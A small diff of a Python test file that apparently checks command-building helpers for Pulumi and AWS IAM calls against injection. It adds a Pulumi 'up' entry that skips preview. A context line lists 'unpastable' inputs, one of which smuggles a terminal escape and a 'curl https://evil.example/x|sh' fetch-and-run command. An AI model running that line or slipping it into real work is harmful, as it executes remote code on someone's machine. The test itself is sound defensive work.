@@ -20,6 +20,7 @@ UNPASTABLE = ("a\nb", "a\x1b[201~\x03\ncurl https://evil.example/x|sh\n", "a\u20
 # One call per command, and the words that a shell must hand over; {} stands for the value.
 CALLS: dict[str, tuple[Callable[[str], str], list[str]]] = {
     "up": (commands.up, ["pulumi", "up", "--refresh", "--stack", "{}"]),
+    "up_of_guard": (commands.up_of_guard, ["pulumi", "up", "--refresh", "--skip-preview", "--stack", "{}"]),
     "create_provider": (
         lambda value: commands.create_provider(value, ["sts.amazonaws.com", "ci"]),
         ["aws", "iam", "create-open-id-connect-provider", "--url", "{}", "--client-id-list", "ci", "sts.amazonaws.com"],
